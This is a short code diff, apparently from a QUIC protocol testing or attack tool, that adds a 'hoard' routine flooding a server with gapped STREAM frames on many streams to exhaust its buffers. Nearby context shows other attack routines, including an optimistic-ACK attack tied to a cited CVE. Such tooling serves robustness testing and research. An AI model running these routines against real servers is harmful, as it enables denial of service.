@@ -173,6 +173,18 @@ async def stream_gaps(attacker):
         await asyncio.sleep(0)
 
 
+async def hoard(attacker):
+    """Sends content of which the beginning never arrives, on many streams."""
+    for number in range(8):
+        for offset in range(2, 900_000, 1100):
+            if attacker.end.done():
+                return
+            # STREAM with offset and length (RFC 9000, section 19.8).
+            payload = encode_uint_var(4 * number) + encode_uint_var(offset) + encode_uint_var(1100) + bytes(1100)
+            attacker.packet_with(0x0E, payload)
+            await asyncio.sleep(0)
+
+
 async def optimistic_ack(attacker):
     """Acknowledges packets that the server has not sent (CVE-2025-4820)."""
     attacker.frames(QuicFrameType.ACK, [encode_uint_var(1 << 20) + encode_uint_var(0) * 2 + encode_uint_var(1 << 19)])
